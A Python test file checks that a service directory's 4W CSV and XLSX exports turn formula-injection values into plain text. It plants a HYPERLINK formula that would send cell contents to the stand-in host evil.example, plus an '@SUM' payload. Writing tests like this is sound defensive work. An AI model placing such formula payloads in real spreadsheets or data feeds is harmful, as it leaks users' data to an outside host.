"""Attacker's probe (issue 15 "exports write formulas", ADR 0021, 0059): a service entered
in the directory with a formula for a name or description is exported to the 4W CSV and
XLSX as text — never a formula a spreadsheet would run."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from vigie.identification import directory
from vigie.identification.tests.test_directory import _load
from vigie.testing import World

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"help")'
FILE = (
    "who,org_code,what,service,country,admin1,admin2,start,end,min_age,max_age,sexes,"
    "legal_statuses,nationalities,languages,capacity,contact_name\n"
    f'Safe House,own-org,shelter,"{FORMULA.replace(chr(34), chr(34) * 2)}",LY,Tripoli,,,,,,,,,,,'
    "@SUM(1+1)\n"
)


def test_the_4w_export_writes_no_formula(world: World, tmp_path: Path) -> None:
    assert _load(world, tmp_path, FILE)["created"] == 1
    out_csv = tmp_path / "4w-out.csv"
    directory.export_services(out_csv)
    with out_csv.open(encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    texts = [c for row in rows[1:] for c in row]
    assert FORMULA not in texts and f"'{FORMULA}" in texts
    assert "'@SUM(1+1)" in texts
    out_xlsx = tmp_path / "4w-out.xlsx"
    directory.export_services(out_xlsx)
    sheet = openpyxl.load_workbook(out_xlsx).active
    assert sheet is not None
    kinds = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row if c.value}
    assert kinds[FORMULA] == "s" and kinds["@SUM(1+1)"] == "s", kinds
